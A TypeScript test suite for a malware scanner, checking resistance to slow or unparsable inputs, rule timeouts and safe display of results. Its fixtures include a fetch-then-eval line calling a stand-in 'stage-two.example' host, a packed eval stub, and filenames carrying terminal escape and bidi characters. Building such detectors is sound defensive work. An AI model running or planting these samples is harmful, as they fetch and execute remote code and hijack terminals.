// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the lines hold the templates of other programs.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type ScanResult, scanTree, type TreeFile } from '@haetae/detect/repository';
import { type ScanOptions, scanFiles } from './scan-files.ts';

/** What takes the square of its length takes minutes for a line of this one, and what takes its length no second. */
const LENGTH = 170_000;
/** What one file may take: many times what it does take, because other work may hold the processor. */
const FILE_MILLISECONDS = 8_000;
const encoder = new TextEncoder();
const filled = (piece: string): string => piece.repeat(Math.ceil(LENGTH / piece.length));

/** Pieces that make a rule try again from everywhere, if it can be made to. */
const PIECES: readonly (readonly [string, string])[] = [
  ['one letter', 'a'],
  ['blanks', ' '],
  ['blanks and a sign', ' ;'],
  ['curl', 'curl '],
  ['curl and a pipe', 'curl x|'],
  ['interpreters', 'node -e -e '],
  ['opening brackets', '('],
  ['opening braces', '{'],
  ['brackets of JSFuck, broken', '![]x'],
  ['quotes', '"\''],
  ['backslashes', '\\'],
  ['dollars', '${IFS}$a'],
  ['assignments', ' A=b;'],
  ['base64', 'QUFB'],
  ['hexadecimal names', '_0x12ab '],
  ['powershell', 'powershell -w '],
  ['letters of extension ids', 'abcdefghijklmnop'],
  ['addresses', 'http://198.51.100.1:'],
  ['orders to an assistant', 'assistant must '],
  ['read-me orders', 'disable the '],
  ['empty lines', '\n '],
  ['variation selectors', '\ufe00'],
  ['blank Hangul letters', '\u3164'],
  ['sums', 'a+'],
  ['nested calls', 'f('],
  ['commas', ',['],
  ['keys of YAML', 'run: '],
  ['python strings', "'''"],
  ['lambdas', 'lambda x:'],
  ['template literals', '`${'],
];

const SCRIPT = 'a.js';
const TEXTS = ['a.py', 'a.sh', 'package.json', '.env', 'README.md', 'a.svg', 'yarn.lock', 'requirements.txt'];

const HOSTILE = 'fetch("https://stage-two.example").then((r) => r.text()).then(eval);';
const other: TreeFile = { path: 'other.js', bytes: encoder.encode(HOSTILE) };

/**
 * Scans `other` beside files that hang (the syntax of some keeps a native parser busy for hours): for a second each, so
 * that nobody waits long, and for longer only on a machine so busy that even `other` did not get its turn within that.
 */
async function scanBeside(files: readonly TreeFile[], options: ScanOptions = {}): Promise<ScanResult> {
  const scan = (fileMilliseconds: number) => scanFiles([...files, other], { ...options, fileMilliseconds });
  const soon = await scan(1_000);
  return soon.unscanned.some(({ file }) => file === other.path) ? await scan(15_000) : soon;
}

describe('a line without end, made to hold a rule up, costs its time and hides nothing', () => {
  const named = (names: readonly string[]): TreeFile[] =>
    PIECES.flatMap(([, piece], at) => {
      const bytes = encoder.encode(filled(piece));
      return names.map((name) => ({ path: `${at}/${name}`, bytes }));
    });
  // All in one scan: starting the processes takes longer than most of the lines.
  let result: ReturnType<typeof scanFiles> | undefined;
  const scan = () => {
    result ??= scanFiles([...named(TEXTS), other], { fileMilliseconds: FILE_MILLISECONDS });
    return result;
  };
  for (const [at, [what]] of PIECES.entries())
    it(what, async () => {
      const { unscanned } = await scan();
      assert.deepEqual(
        unscanned.filter(({ reason, file }) => reason === 'timeout' && file.startsWith(`${at}/`)),
        [],
      );
    });
  it('what lies beside them is found', async () => {
    const { findings } = await scan();
    assert.ok(findings.some(({ file }) => file === 'other.js'));
  });
  it('what lies beside is found, too, where such a line is a script and its parser runs out of time', async () => {
    const { findings } = await scanBeside(named([SCRIPT]));
    assert.ok(findings.some(({ file }) => file === 'other.js'));
  });
});

describe('many lines, each with a name of its own, take the time of their length', () => {
  const LINES: readonly (readonly [string, string, (at: number) => string])[] = [
    ['variables of a shell', 'a.sh', (at) => `name${at}=b;$c\n`],
    ['variables of a shell made of others', 'a.sh', (at) => `name${at}=$name${at - 1}$name${at - 2}; run\n`],
    ['names of Python', 'a.py', (at) => `name${at} = name${at - 1} + "b"\n`],
    ['names of JavaScript', 'a.js', (at) => `const name${at} = name${at - 1} + "b";\n`],
    ['keys of JSON', 'package.json', (at) => `${at === 0 ? '{' : ','}"name${at}": "b"\n`],
    ['settings', '.env', (at) => `NAME_${at}=b\n`],
  ];
  for (const [what, path, line] of LINES)
    it(what, () => {
      const text = Array.from({ length: 40_000 }, (_, number) => line(number)).join('');
      // Counted is the processor that is used, not the clock: it does not matter what else runs on the machine.
      const before = process.cpuUsage();
      scanTree([{ path, bytes: encoder.encode(text) }]);
      const { user, system } = process.cpuUsage(before);
      assert.ok(user + system < 4_000_000, `${(user + system) / 1_000} ms`);
    });
});

describe('what nobody can parse is named, and the rest is judged', () => {
  const CASES: readonly (readonly [string, string, string])[] = [
    ['brackets a hundred thousand deep', 'deep.js', '['.repeat(100_000)],
    ['conditions in conditions', 'deep.ts', `${'a?'.repeat(200_000)}b${':c'.repeat(200_000)}`],
    ['denials of denials', 'not.js', `${'!'.repeat(500_000)}a`],
    ['arrows to arrows', 'arrow.js', `${'a=>'.repeat(200_000)}a`],
    ['backslashes, on which a parser takes the square of their number', 'slash.js', '\\'.repeat(200_000)],
    ['Python in brackets', 'deep.py', `x = ${'('.repeat(100_000)}`],
    ['functions of Python in functions', 'deep.py', `x = ${'lambda x:'.repeat(100_000)}x`],
  ];
  let result: ReturnType<typeof scanFiles> | undefined;
  const scan = () => {
    result ??= scanBeside(CASES.map(([, path, text], at) => ({ path: `${at}/${path}`, bytes: encoder.encode(text) })));
    return result;
  };
  for (const [at, [what, path]] of CASES.entries())
    it(what, async () => {
      const { unscanned } = await scan();
      assert.deepEqual(
        unscanned.flatMap(({ file }) => (file.startsWith(`${at}/`) ? [file] : [])),
        [`${at}/${path}`],
      );
    });
  it('a hostile file beside them is found', async () => {
    const { verdict, findings } = await scan();
    assert.equal(verdict, 'malicious');
    assert.ok(findings.some(({ file }) => file === 'other.js'));
  });

  it('what stands before brackets without end is found by its text', async () => {
    const text = `${'eval(function(p,a,c,k,e,d){}())'}\n${'!'.repeat(500_000)}a`;
    const { findings } = await scanFiles([{ path: 'a.js', bytes: encoder.encode(text) }]);
    assert.equal(findings[0]?.rule, 'packed-code');
  });
});

describe('rules and shapes that are looked for in one job do not fall together', () => {
  const RULE = 'rule good { strings: $a = "inert-marker-5d1c" condition: $a }';
  const given = { source: 'given', text: RULE };
  const marked: TreeFile = { path: 'marked.txt', bytes: encoder.encode('inert-marker-5d1c') };
  const hangs: TreeFile = { path: 'hangs.txt', bytes: encoder.encode('x'.repeat(60_000)) };

  it('a rule that hangs on a file is named with it; other rules and all shapes are judged', async () => {
    const slow = { source: 'slow', text: 'rule slow { strings: $a = /(x+x+)+y/ condition: $a }' };
    const { findings, unscanned } = await scanBeside([marked, hangs], { rules: [slow, given] });
    assert.ok(findings.some(({ file }) => file === 'other.js'));
    assert.ok(findings.some(({ rule, file }) => rule === 'yara:good' && file === 'marked.txt'));
    assert.deepEqual(
      unscanned.map(({ file, reason, detail }) => [file, reason, detail.slice(0, 5)]),
      [['hangs.txt', 'timeout', 'YARA:']],
    );
  });

  it('a parser that hangs on a file is named with it; rules look at that file all the same', async () => {
    const text = `// inert-marker-5d1c\n${'!'.repeat(500_000)}a`;
    const { findings, unscanned } = await scanBeside([{ path: 'not.js', bytes: encoder.encode(text) }], {
      rules: [given],
    });
    assert.ok(findings.some(({ rule, file }) => rule === 'yara:good' && file === 'not.js'));
    assert.ok(findings.some(({ file }) => file === 'other.js'));
    assert.deepEqual(
      unscanned.map(({ file }) => file),
      ['not.js'],
    );
  });

  it('a rule set that is broken is named once, however many batches meet it', async () => {
    const files = Array.from({ length: 600 }, (_, at) => ({ ...marked, path: `${at}.txt` }));
    const { findings, unscanned } = await scanFiles(files, { rules: [{ source: 'bad', text: 'rule {' }, given] });
    assert.equal(findings.length, 600);
    assert.deepEqual(
      unscanned.map(({ file }) => file),
      ['bad'],
    );
  });
});

describe('results show hostile text harmlessly', () => {
  const ESCAPE = '\u001b';
  const files = [
    {
      path: `a${ESCAPE}]0;owned\u0007\n\u202ename.js`,
      bytes: encoder.encode(`eval(atob("${ESCAPE}[2J<script>alert(1)</script>\u202e https://stage-two.example/x"));`),
    },
  ];
  it('no character that a terminal obeys, no link that can be followed', async () => {
    const { findings } = await scanFiles(files);
    assert.ok(findings.length > 0);
    for (const finding of findings) {
      assert.doesNotMatch(Object.values(finding).join(''), /[\p{Cc}\p{Cf}]|https?:\/\//u);
    }
  });
});
